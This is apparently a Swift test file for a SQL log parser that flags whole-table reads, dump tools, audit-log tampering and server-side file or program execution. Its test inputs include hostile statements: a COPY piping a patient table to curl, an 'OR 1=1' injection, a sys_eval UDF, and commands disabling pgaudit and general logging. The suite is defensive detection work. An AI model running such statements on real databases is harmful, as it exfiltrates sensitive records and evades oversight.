import LogFormats
import Testing

@Suite struct SQLStatementTests {
    @Test(arguments: [
        ("SELECT * FROM patient", ["patient"]), ("select p.name from public.patient p, visit as v where p.id = v.id", ["public.patient", "visit"]),
        ("SELECT * FROM a JOIN \"B c\".d ON a.x = d.x LEFT OUTER JOIN e USING (id)", ["a", "B c.d", "e"]),
        ("SELECT (SELECT max(x) FROM inner_one), count(*) FROM outer_one", ["inner_one", "outer_one"]),
        ("WITH recent AS (SELECT * FROM visit) SELECT * FROM recent JOIN patient USING (id)", ["visit", "patient"]),
        ("SELECT extract(year FROM born), substring(name FROM 1 FOR 2) FROM patient", ["patient"]),
        ("SELECT * FROM generate_series(1, 10) g, patient", ["patient"]), ("SELECT a IS DISTINCT FROM b FROM t", ["t"]),
        ("INSERT INTO copy (id) SELECT id FROM patient", ["copy", "patient"]), ("UPDATE ONLY patient SET name = 'from x' WHERE id = 1", ["patient"]),
        ("DELETE FROM patient WHERE id IN (SELECT id FROM gone)", ["patient", "gone"]), ("TABLE patient", ["patient"]),
        ("COPY public.patient (id, name) TO STDOUT", ["public.patient"]), ("COPY (SELECT * FROM patient) TO '/tmp/x'", ["patient"]),
        ("TRUNCATE TABLE patient", ["patient"]), ("DROP TABLE IF EXISTS patient", ["patient"]),
        ("SELECT 'from nowhere', $$ from nothing $$, $x$ join $$ from $x$ /* from no */ -- from none\n FROM patient", ["patient"]),
    ]) func theTablesOfAStatementAreNamed(statement: String, tables: [String]) { #expect(Reading(statement).tables == tables) }

    @Test func mySQLsQuotesAreItsOwn() {
        #expect(Reading("SELECT \"from a\" FROM `his`.`pat``ient` # from b\n WHERE x = 'it\\'s from c'", .mySQL).tables == ["his.pat``ient"])
        #expect(Reading("SELECT /*!40001 SQL_NO_CACHE */ * /*!50000 FROM hidden */", .mySQL).tables == ["hidden"])
        // To PostgreSQL that is a comment.
        #expect(Reading("SELECT 1 /*!50000 FROM hidden */").tables.isEmpty)
    }

    @Test(arguments: [
        ("SELECT * FROM patient", true), ("SELECT name, id_card FROM patient ORDER BY id", true), ("SELECT * FROM patient WHERE id = 5", false),
        ("SELECT * FROM patient LIMIT 10", false), ("SELECT count(*) FROM patient", false), ("SELECT count(*) AS n, max(id) m FROM patient", false),
        ("SELECT * FROM patient WHERE 1=1", true), ("SELECT * FROM patient WHERE 1 = 1 AND id = 3", false),
        ("SELECT * FROM patient WHERE true", true), ("SELECT * FROM patient WHERE name = '' OR 1=1", true),
        ("SELECT * FROM (SELECT * FROM patient WHERE id = 1) x", false), ("SELECT 1 FROM patient", false), ("SELECT now()", false),
        ("COPY patient TO STDOUT", true), ("COPY (SELECT * FROM patient WHERE id < 9) TO STDOUT", false), ("COPY patient FROM STDIN", false),
        ("EXPLAIN SELECT * FROM patient", false), ("SELECT * FROM patient FETCH FIRST 5 ROWS ONLY", false),
        ("SELECT (SELECT 1 FROM x WHERE y = 2), name FROM patient", true), ("INSERT INTO t SELECT * FROM patient", false),
        ("SELECT p.* FROM patient p", true), ("SELECT DISTINCT name FROM patient", true), ("TABLE patient", true),
        ("WITH x AS (SELECT 1) SELECT * FROM patient", true), ("SELECT * FROM patient UNION SELECT * FROM old_patient", true),
        ("SELECT role, \"user\", password FROM staff", true), ("SELECT sleep FROM patient", true),
    ]) func whoTakesAWholeTableIsSeen(statement: String, isWhole: Bool) { #expect(Reading(statement).reading.readsWholeTable == isWhole) }

    @Test(arguments: [
        ("SELECT * FROM t LIMIT 25", 25), ("SELECT * FROM t LIMIT 25 OFFSET 100", 25), ("SELECT * FROM t LIMIT $1", Int64.max),
        ("SELECT * FROM t LIMIT ALL", -1), ("SELECT * FROM t FETCH FIRST 7 ROWS ONLY", 7), ("SELECT * FROM t", -1),
        ("SELECT * FROM t LIMIT ALL OFFSET 5", -1), ("SELECT * FROM t WHERE a IN (SELECT b FROM u LIMIT 3), 4", 3),
    ]) func limitsAreRead(statement: String, limit: Int64) { #expect(Reading(statement).reading.limit == limit) }

    @Test func aLimitBeyondAllNumbersIsNoSmallOne() {
        #expect(Reading("SELECT * FROM t LIMIT 99999999999999999999999").reading.limit > 1 << 58)
    }

    @Test func theSecondNumberOfMySQLsLimitIsTheCount() {
        #expect(Reading("SELECT * FROM t LIMIT 100, 25", .mySQL).reading.limit == 25)
        #expect(Reading("SELECT * FROM t LIMIT 100", .mySQL).reading.limit == 100)
    }

    @Test(arguments: [
        ("SELECT 1", StatementReading.Kind.select), ("INSERT INTO t VALUES (1)", .insert), ("REPLACE INTO t VALUES (1)", .insert),
        ("UPDATE t SET a = 1", .update), ("DELETE FROM t", .delete), ("COPY t TO STDOUT", .copyOut), ("COPY t FROM '/x'", .copyIn),
        ("LOAD DATA LOCAL INFILE 'x' INTO TABLE t", .copyIn), ("CREATE TABLE t (user text, role int)", .ddl), ("DROP TABLE t", .ddl),
        ("CREATE USER u IDENTIFIED BY 'x'", .privilegeChange), ("ALTER ROLE u SUPERUSER", .privilegeChange),
        ("GRANT ALL ON *.* TO u", .privilegeChange), ("SET PASSWORD FOR u = 'x'", .privilegeChange), ("SET NAMES utf8", .configure),
        ("SET GLOBAL general_log = OFF", .logControl), ("SET @@GLOBAL.general_log = 0", .logControl), ("SET log_statement TO 'none'", .logControl),
        ("ALTER SYSTEM SET log_statement = 'none'", .logControl), ("ALTER SYSTEM SET work_mem = '64MB'", .configure),
        ("ALTER ROLE app SET pgaudit.log = 'none'", .logControl), ("SELECT set_config('log_connections', 'off', false)", .logControl),
        ("PURGE BINARY LOGS TO 'x'", .logControl), ("RESET MASTER", .logControl), ("TRUNCATE TABLE mysql.general_log", .logControl),
        ("DROP EXTENSION pgaudit", .logControl), ("UNINSTALL PLUGIN server_audit", .logControl), ("FLUSH LOGS", .logControl),
        ("FLUSH TABLES WITH READ LOCK", .dumpSetup), ("SHOW CREATE TABLE patient", .dumpSetup),
        ("SET TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ ONLY", .dumpSetup), ("Binlog Dump\tLog: 'x'", .replicate),
        ("BASE_BACKUP ( LABEL 'x' )", .replicate), ("BEGIN", .other), ("", .other), ("WITH x AS (SELECT 1) DELETE FROM t", .delete),
        ("SELECT * FROM t FOR UPDATE", .select),
    ]) func theKindOfAStatementIsTold(statement: String, kind: StatementReading.Kind) { #expect(Reading(statement, .mySQL).reading.kind == kind) }

    @Test(arguments: [
        ("SET GLOBAL general_log = OFF", true), ("SET GLOBAL general_log = ON", false), ("SET GLOBAL general_log_file = '/tmp/x'", true),
        ("SET sql_log_bin = 0", true), ("ALTER SYSTEM SET log_min_duration_statement = -1", true),
        ("ALTER SYSTEM SET log_min_duration_statement = 0", false), ("ALTER SYSTEM SET log_min_duration_statement = 250", false),
        ("ALTER SYSTEM SET log_statement = 'all'", false), ("ALTER SYSTEM RESET log_statement", true),
        ("SET log_bin_trust_function_creators = 0", false), ("DELETE FROM mysql.slow_log", true), ("DELETE FROM patient", false),
        ("FLUSH LOGS", false), ("RESET log_statement", true), ("SET names = utf8, GLOBAL slow_query_log = 0", true),
        ("SET sql_log_off = 1", true), ("SET sql_log_off = 0", false),
    ]) func whatLogsLessIsTold(statement: String, reduces: Bool) { #expect(Reading(statement, .mySQL).reading.reducesLogging == reduces) }

    @Test func toolsAreKnownByTheirMarks() {
        #expect(Reading("SELECT /*!40001 SQL_NO_CACHE */ * FROM `patient`", .mySQL).reading.tool == .mysqldump)
        #expect(Reading("SELECT SQL_NO_CACHE * FROM `patient`", .mySQL).reading.tool == .none)
        #expect(Reading("START TRANSACTION /*!40100 WITH CONSISTENT SNAPSHOT */", .mySQL).reading.tool == .mysqldump)
        #expect(Reading("START TRANSACTION WITH CONSISTENT SNAPSHOT", .mySQL).reading.tool == .none)
        #expect(Reading("LOCK TABLES `a` READ /*!32311 LOCAL */", .mySQL).reading.tool == .mysqldump)
        #expect(Reading("LOCK TABLE public.patient IN ACCESS SHARE MODE").reading.tool == .pgDump)
        #expect(Reading("LOCK TABLE public.patient IN EXCLUSIVE MODE").reading.tool == .none)
    }

    @Test func filesAndProgramsOfTheServerAreSeen() {
        #expect(Reading("SELECT * FROM patient INTO OUTFILE '/tmp/a.csv'", .mySQL).reading.writesFile)
        #expect(Reading("COPY patient TO '/tmp/a.csv'").reading.writesFile)
        #expect(Reading("COPY patient TO PROGRAM 'curl -d @- x'").reading.writesFile)
        #expect(Reading("COPY patient TO PROGRAM 'curl -d @- x'").reading.runsProgram)
        #expect(!Reading("COPY patient TO STDOUT WITH (DELIMITER ',')").reading.writesFile)
        #expect(Reading("CREATE FUNCTION sys_eval RETURNS string SONAME 'udf.so'", .mySQL).reading.runsProgram)
    }

    @Test func theCatalogueIsToldFromTheData() {
        #expect(Reading("SELECT * FROM pg_catalog.pg_class c JOIN pg_namespace n ON true").reading.isCatalogOnly)
        #expect(!Reading("SELECT * FROM pg_class, patient").reading.isCatalogOnly)
        #expect(!Reading("SELECT 1").reading.isCatalogOnly)
    }

    @Test func literalsAndTheLengthOfListsDoNotChangeTheFingerprint() {
        func print(_ statement: String) -> UInt64 { Reading(statement, .mySQL).reading.fingerprint }
        #expect(print("SELECT * FROM t WHERE id = 5") == print("select  *\nfrom T where ID='x''y' -- note"))
        #expect(print("SELECT * FROM t WHERE id IN (1,2,3)") == print("SELECT * FROM t WHERE id IN (7)"))
        #expect(print("INSERT INTO t (a, b) VALUES (1, 'x')") == print("INSERT INTO t (a, b) VALUES (1, 'x'), (2, 'y'), (3, 'z')"))
        #expect(print("SELECT * FROM t WHERE id = 5") != print("SELECT * FROM t WHERE name = 5"))
        #expect(print("SELECT a FROM t") != print("SELECT a, b FROM t"))
        #expect(print("SELECT * FROM t WHERE id = 5") != 0)
    }
}
